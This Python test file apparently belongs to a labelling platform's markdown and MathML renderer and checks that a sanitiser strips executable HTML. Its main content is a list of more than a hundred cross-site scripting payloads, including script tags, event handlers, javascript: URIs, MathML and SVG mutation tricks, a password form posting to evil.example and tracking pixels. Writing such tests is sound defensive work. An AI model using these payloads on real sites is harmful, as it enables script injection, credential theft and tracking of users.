"""Nothing that a model can write is executed, loaded or sent from the reader's page."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from labelplatform.prompts.rendering import language_of, render_markdown, sanitise

# Said again here on purpose: a list that grows in the product must grow under somebody's eyes.
HARMLESS = {
    *"p br hr blockquote pre code span em strong s a ul ol li h4 h5 h6 table thead tbody tr th td".split(),
    *"math mrow mi mn mo ms mtext mspace mfrac msqrt mroot mstyle mpadded msub msup msubsup munder".split(),
    *"mover munderover mmultiscripts mprescripts mphantom mtable mtr mtd menclose".split(),
}
KNOWN = {
    *{
        ("a", "href"),
        ("a", "title"),
        ("a", "rel"),
        ("a", "target"),
        ("ol", "start"),
        ("span", "class"),
        ("math", "display"),
    },
    *{("mo", name) for name in "stretchy fence separator form accent movablelimits largeop".split()},
    *{("mi", "mathvariant"), ("mover", "accent"), ("munder", "accentunder"), ("mfrac", "linethickness")},
    *{("mspace", "width"), ("mstyle", "displaystyle"), ("mstyle", "scriptlevel")},
    *{("mtable", "columnalign"), ("mtable", "displaystyle"), ("mtd", "columnalign")},
}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=evil></applet>",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea onkeyup=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a style='position:fixed;inset:0' href=https://evil.example>x</a>",
    "<a id=csrfmiddlewaretoken name=rank>x</a>",
    "<a href=x ping=https://evil.example>x</a>",
    "<div style='background:url(https://evil.example/a.png)'>x</div>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<table background=https://evil.example/a.png><tr><td>x</td></tr></table>",
    "<dialog open>x</dialog>",
    "<slot name=x onslotchange=alert(1)></slot>",
    "\x00<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<script\x0c>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "[x](/p/assistant/labels/)",
    "[x](//evil.example/)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x][1]\n\n[1]: https://evil.example/pixel.png",
    "[![x](https://evil.example/pixel.png)](https://ok.example)",
    "```html\n<script>alert(1)</script>\n```",
    "``` <img/src=x/onerror=alert(1)>\nx\n```",
    "`<script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | d |",
    "# <svg onload=alert(1)>",
    "- <iframe src=javascript:alert(1)>",
    "> <embed src=x>",
    "**<script>alert(1)</script>**",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$$\mbox{</math><script>alert(1)</script>}$$",
    r"\(\href{javascript:alert(1)}{x}\)",
    r"$\href{https://evil.example}{x}$",
    r"$\style{position:fixed}{x}$",
    r"$\class{button}{x}$",
    r"$\color{red\" onmouseover=alert(1) x=\"}{x}$",
    r"\[\newcommand{\a}{\href{javascript:alert(1)}{x}}\a\]",
    r"$<script>alert(1)</script>$",
    r"$x</mi></math><img src=x onerror=alert(1)>$",
    r"$\hspace{1em\" onclick=\"alert(1)}$",
    r"$\operatorname{<svg onload=alert(1)>}$",
    r"$\includegraphics{https://evil.example/x.png}$",
    "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mi style='position:fixed' id=x class=button href=javascript:alert(1)>x</mi></math>",
    "<math><semantics><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mspace width=99999em></mspace></math>",
]


class Inventory(HTMLParser):
    """Every element and attribute a browser would make of a piece of HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.oddities: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.oddities.append(data)

    def handle_decl(self, decl: str) -> None:
        self.oddities.append(decl)

    def handle_pi(self, data: str) -> None:
        self.oddities.append(data)

    def unknown_decl(self, data: str) -> None:
        self.oddities.append(data)


def taken_apart(html: str) -> Inventory:
    inventory = Inventory()
    inventory.feed(html)
    inventory.close()
    return inventory


def harmless(html: str) -> bool:
    found = taken_apart(html)
    addresses = [value for _tag, name, value in found.attributes if name in {"href", "src"}]
    return (
        found.tags <= HARMLESS
        and {(tag, name) for tag, name, _value in found.attributes} <= KNOWN
        and all(urlsplit(address.strip()).scheme in {"http", "https", "mailto"} for address in addresses)
        and not any("script:" in "".join(address.split()).lower() for address in addresses)
        and not found.oddities
    )


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_executable_survives_rendering(payload: str) -> None:
    assert harmless(render_markdown(payload))
    assert harmless(render_markdown(f"before\n\n{payload}\n\nafter"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_allow_list_alone_would_do(payload: str) -> None:
    """Even if the parser let raw HTML through."""
    assert harmless(sanitise(payload))


@pytest.mark.parametrize(
    "planted", ["<img src=x>", "<p onclick=x>", "<a href='javascript:x'>", "<p id=x>", "<!--x-->"]
)
def test_the_check_itself_finds_what_it_looks_for(planted: str) -> None:
    assert not harmless(planted)


def test_raw_html_is_shown_as_the_text_it_is() -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render_markdown("<script>alert(1)</script>")


def test_what_people_need_is_there() -> None:
    html = render_markdown(
        "# Title\n\n**bold** *slanted* ~~gone~~ `code`\n\n- one\n- two\n\n"
        "> said\n\n```\nlong\n```\n\n|a|b|\n|-|-|\n|1|2|"
    )
    found = taken_apart(html)
    assert found.tags >= {"h4", "strong", "em", "s", "code", "ul", "li", "blockquote", "pre", "table", "td"}
    assert "h1" not in found.tags


def test_a_single_line_break_is_kept() -> None:
    assert "<br>" in render_markdown("one\ntwo")


def test_links_tell_nobody_where_they_were_and_cannot_reach_back() -> None:
    found = taken_apart(render_markdown("[x](https://ok.example/a?b=c)"))
    attributes = {name: value for tag, name, value in found.attributes if tag == "a"}
    assert attributes["href"] == "https://ok.example/a?b=c"
    assert set(attributes["rel"].split()) >= {"nofollow", "noopener", "noreferrer"}
    assert attributes["target"] == "_blank"


def test_no_image_is_ever_fetched() -> None:
    assert "evil.example" not in "".join(
        value
        for _tag, name, value in taken_apart(render_markdown("![a](https://evil.example/x.png)")).attributes
        if name == "src"
    )
    assert "img" not in taken_apart(render_markdown("![a](https://ok.example/x.png)")).tags


def test_deep_nesting_and_long_lines_are_no_trouble() -> None:
    assert harmless(render_markdown("> " * 500 + "deep"))
    assert harmless(render_markdown("[" * 2000 + "x" + "](" * 2000))
    assert harmless(render_markdown("*" * 5000 + "a" + "_" * 5000))


@pytest.mark.parametrize(
    ("text", "told", "language"),
    [
        ("天空是蓝色的。", "", "zh-Hans"),
        ("The sky is blue.", "", ""),
        ("The sky is blue.", "en", "en"),
        ("The word 天 means sky and a good deal more than that.", "", ""),
        ("", "", ""),
        ("天空", "zh-Hant", "zh-Hant"),
    ],
)
def test_the_language_of_a_text(text: str, told: str, language: str) -> None:
    assert language_of(text, told) == language


@pytest.mark.parametrize(
    ("text", "display"),
    [
        ("the mean $\\bar{x}$ is", "inline"),
        (r"the mean \(\bar{x}\) is", "inline"),
        ("$$\\bar{x}$$", "block"),
        (r"so \[\bar{x}\] is", "block"),
        ("$$\n\\bar{x}\n= 1\n- 2\n+ 3\n$$", "block"),
        ("\\[\n\\bar{x}\n+ 3\n\\]\nand then", "block"),
        ("- one\n\n  $$\n  \\bar{x}\n  $$", "block"),
    ],
)
def test_formulas_become_mathml(text: str, display: str) -> None:
    html = render_markdown(text)
    assert f'<math display="{display}">' in html
    assert "<mover>" in html
    assert "$" not in html
    assert "\\" not in html


@pytest.mark.parametrize(
    "text",
    [
        "costs $5 and $6",
        "from $5-$6 on",
        "a $ b $ c",
        r"$\frac{$",
        r"$\unknowncommand{x}$",
        r"$\text{a<b}$",
        r"$\newcommand{\a}{b}\a$",
        "$$\nnever closed",
        r"\(\left( x\)",
        "`$x$`",
        "$" + "x" * 1001 + "$",
    ],
)
def test_what_is_no_formula_stays_the_text_it_is(text: str) -> None:
    html = render_markdown(text)
    assert "<math" not in html
    assert "$" in html or "(" in html


def test_wide_blanks_are_taken_out_and_small_ones_kept() -> None:
    assert 'width="' not in render_markdown(r"$a\hspace{99999em}b$")
    assert 'width="1em"' in render_markdown(r"$a\hspace{1em}b$")


@given(
    st.lists(
        st.sampled_from(
            r"\frac { } x ^ _ & \\ \left( \right) \begin{matrix} \end{matrix} \sqrt [ ] \genfrac \hspace \color "
            r"\big \limits \sum \text{a} \substack \over 1em ' \overset \tag \hline % # 天 < \href".split()
        ),
        max_size=14,
    )
)
def test_no_formula_however_broken_breaks_the_page(parts: list[str]) -> None:
    assert harmless(render_markdown(f"${''.join(parts)}$\n\n$$\n{' '.join(parts)}\n$$"))
